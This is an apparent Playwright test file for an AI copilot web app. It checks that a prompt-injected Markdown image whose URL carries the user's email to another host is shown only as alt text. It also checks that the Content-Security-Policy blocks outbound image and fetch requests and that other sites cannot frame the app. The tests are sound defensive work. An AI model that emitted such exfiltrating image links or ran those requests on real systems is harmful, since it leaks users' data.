// Model output can carry a prompt injection: an image whose address holds data for another host. Neither the Markdown
// renderer nor the page may reach that host. The production build ships a Content-Security-Policy (meta tag in
// dist/index.html, header from `vite preview`) that allows only the app's origin and the Supabase URL; the header also
// keeps every other site from framing the app.
import { readFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { fakeMicrophone, startCopilotSession } from './copilot-helpers.ts';
import { expect, signInViaUi, test } from './fixtures.ts';

test.use(fakeMicrophone);

/** Another host on this machine that records every request it gets: where injected content would send data. */
async function startElsewhere(): Promise<{ origin: string; hits: string[]; close(): Promise<void> }> {
  const hits: string[] = [];
  const server = http.createServer((req, res) => {
    hits.push(req.url ?? '');
    res.writeHead(200, { 'content-type': 'image/gif', 'access-control-allow-origin': '*' });
    res.end(Buffer.from('R0lGODlhAQABAAAAACw=', 'base64'));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    hits,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

test('an image in an AI answer is shown as its alt text and its host gets no request', async ({ page, user }) => {
  const elsewhere = await startElsewhere();
  try {
    await signInViaUi(page, user);
    await page.goto('/copilot2');
    await startCopilotSession(page, 'Enter Demo Mode');
    await page.getByRole('button', { name: 'Stop' }).click();
    // The fake upstream echoes the question into its answer, as an injected model would repeat it.
    await page.getByLabel('Transcript').fill(`What next? ![tracking pixel](${elsewhere.origin}/pixel?d=${encodeURIComponent(user.email)})`);
    await page.getByRole('button', { name: 'Send' }).click();

    const answer = page.getByTestId('copilot-answer');
    await expect(answer).toContainText('[tracking pixel]');
    await expect(answer.locator('img')).toHaveCount(0);
    await page.waitForLoadState('networkidle');
    expect(elsewhere.hits).toEqual([]);
  } finally {
    await elsewhere.close();
  }
});

test('the build ships a Content-Security-Policy that keeps the page to its own origin and Supabase', async ({ page, e2e, user }) => {
  const response = await page.goto('/login');
  const header = response?.headers()['content-security-policy'] ?? '';
  expect(readFileSync(path.join(e2e.distDir, 'index.html'), 'utf8')).toContain('<meta http-equiv="Content-Security-Policy"');
  const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  // The header adds what a meta policy cannot carry: no site may frame the app.
  expect(header).toBe(`${meta}; frame-ancestors 'none'`);
  expect(response?.headers()['x-frame-options']).toBe('DENY');
  // Exactly the backend and the gateway's realtime WebSocket origin: nothing wider.
  expect(header.split('; ')).toContain(`connect-src 'self' ${new URL(e2e.backendUrl).origin} ${new URL(e2e.fakeRealtimeUrl).origin}`);
  expect(header).toContain("object-src 'none'");

  // The app itself still works under it: sign-in talks to the backend.
  await signInViaUi(page, user);

  const elsewhere = await startElsewhere();
  try {
    const violations: string[] = [];
    page.on('console', (message) => {
      if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
    });
    const outcome = await page.evaluate(async (origin) => {
      const image = new Image();
      image.src = `${origin}/image?d=secret`;
      document.body.append(image);
      try {
        await fetch(`${origin}/fetch?d=secret`);
        return 'fetched';
      } catch {
        return 'refused';
      }
    }, elsewhere.origin);
    expect(outcome).toBe('refused');
    await expect.poll(() => violations.length).toBeGreaterThanOrEqual(2);
    expect(elsewhere.hits).toEqual([]);
  } finally {
    await elsewhere.close();
  }
});

test('another site cannot frame the app: the frame shows Chromium’s error page, never the sign-in form', async ({ page, baseURL }) => {
  const framer = http.createServer((_request, response) => {
    response.writeHead(200, { 'content-type': 'text/html' }).end(`<title>framer</title><iframe name="app" src="${baseURL}/login"></iframe>`);
  });
  await new Promise<void>((resolve) => framer.listen(0, '127.0.0.1', () => resolve()));
  try {
    const blocked = page.waitForEvent('console', (message) => /frame-ancestors|X-Frame-Options/i.test(message.text()));
    await page.goto(`http://127.0.0.1:${(framer.address() as AddressInfo).port}/`);
    await blocked;
    const frame = page.frame({ name: 'app' });
    expect(frame?.url()).not.toContain('/login');
    expect(await frame?.locator('input[type="email"]').count()).toBe(0);
  } finally {
    await new Promise<void>((resolve) => framer.close(() => resolve()));
  }
});
